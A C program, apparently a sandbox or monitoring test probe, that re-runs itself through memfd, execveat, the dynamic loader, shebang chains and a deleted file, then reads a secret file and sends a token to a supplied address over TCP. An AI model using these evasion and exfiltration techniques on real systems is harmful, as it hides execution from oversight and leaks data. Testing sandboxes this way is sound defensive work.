// Runs itself by ways that hide which file is run: indirect SECRET ADDRESS PORT TOKEN
// The inner run (indirect read WAY SECRET ADDRESS PORT TOKEN) steals.
#include <sys/mman.h>

#include "attack.h"

static char *secret, *address, *port, *token;

static void Steal(const char* way) {
  char text[300];
  DumpFd(way, open(secret, O_RDONLY));
  struct sockaddr_in to = Ipv4(address, atoi(port));
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  long result = connect(fd, (struct sockaddr*)&to, sizeof to);
  Result(way, result);
  snprintf(text, sizeof text, "[%s %s]", way, token);
  if (result == 0 && write(fd, text, strlen(text)) < 0) Say("write: errno %d", errno);
  close(fd);
}

static int CopyOf(const char* from, int to) {
  char data[1 << 14];
  int fd = open(from, O_RDONLY);
  ssize_t size;
  if (fd < 0 || to < 0) return -1;
  while ((size = read(fd, data, sizeof data)) > 0) {
    if (write(to, data, (size_t)size) != size) return -1;
  }
  close(fd);
  return 0;
}

typedef void (*Way)(char** words);

static void Memfd(char** words) {
  int fd = (int)syscall(SYS_memfd_create, "anonymous", 0);
  if (CopyOf("/proc/self/exe", fd) == 0) fexecve(fd, words, environ);
}

static void EmptyPath(char** words) {
  int fd = open("/proc/self/exe", O_PATH);
  syscall(SYS_execveat, fd, "", words, environ, AT_EMPTY_PATH);
}

static void Loader(char** words) {
  char self[4096];
  ssize_t size = readlink("/proc/self/exe", self, sizeof self - 1);
  self[size > 0 ? size : 0] = 0;
  char* all[10] = {"ld.so", self};
  for (int i = 1; words[i] && i < 8; ++i) all[i + 1] = words[i];
  execv("/lib64/ld-linux-x86-64.so.2", all);
}

// The file lacks the right to be executed; the loader does not ask.
static void LoaderWithoutRight(char** words) {
  char here[3000], copy[4096];
  if (!getcwd(here, sizeof here)) return;
  snprintf(copy, sizeof copy, "%s/not-executable", here);
  int to = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (CopyOf("/proc/self/exe", to) != 0) return;
  close(to);
  char* all[10] = {"ld.so", copy};
  for (int i = 1; words[i] && i < 8; ++i) all[i + 1] = words[i];
  execv("/lib64/ld-linux-x86-64.so.2", all);
}

static void WriteScript(const char* name, const char* interpreter) {
  int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0700);
  char text[4200];
  int size = snprintf(text, sizeof text, "#!%s\n", interpreter);
  if (write(fd, text, (size_t)size) < 0) Say("script: errno %d", errno);
  close(fd);
}

static void Script(char** words) {
  char here[3000], name[3100];
  if (!getcwd(here, sizeof here)) return;
  WriteScript("script-one", words[0]);  // words[0]: a link to this program without spaces
  snprintf(name, sizeof name, "%s/script-one", here);
  WriteScript("script-two", name);
  snprintf(name, sizeof name, "%s/script-two", here);
  execv(name, words);
}

static void Deleted(char** words) {
  int to = open("deleted-program", O_WRONLY | O_CREAT | O_TRUNC, 0700);
  if (CopyOf("/proc/self/exe", to) != 0) return;
  close(to);
  int fd = open("deleted-program", O_PATH);
  unlink("deleted-program");
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  execv(path, words);
}

static void Run(const char* name, Way way, char* self) {
  pid_t child = fork();
  if (child == 0) {
    char* words[] = {self, "read", (char*)name, secret, address, port, token, NULL};
    way(words);
    Say("%s: errno %d", name, errno);
    _exit(127);
  }
  int status = 0;
  waitpid(child, &status, 0);
  Say("%s: status %d", name, status);
}

int main(int argc, char** argv) {
  // A script puts its own names before the words: look for ours.
  int at = 0;
  for (int i = 1; i < argc; ++i) {
    if (!strcmp(argv[i], "read")) at = i;
  }
  if (at && at + 5 < argc) {
    secret = argv[at + 2], address = argv[at + 3], port = argv[at + 4], token = argv[at + 5];
    Steal(argv[at + 1]);
    return 0;
  }
  if (argc != 5) return 2;
  secret = argv[1], address = argv[2], port = argv[3], token = argv[4];
  char self[4096];
  ssize_t size = readlink("/proc/self/exe", self, sizeof self - 1);
  self[size > 0 ? size : 0] = 0;
  Run("memfd", Memfd, self);
  Run("empty-path", EmptyPath, self);
  Run("loader", Loader, self);
  Run("loader-without-right", LoaderWithoutRight, self);
  Run("script-chain", Script, self);
  Run("deleted", Deleted, self);
  unlink("not-executable");
  unlink("script-one");
  unlink("script-two");
  Done();
  return 0;
}
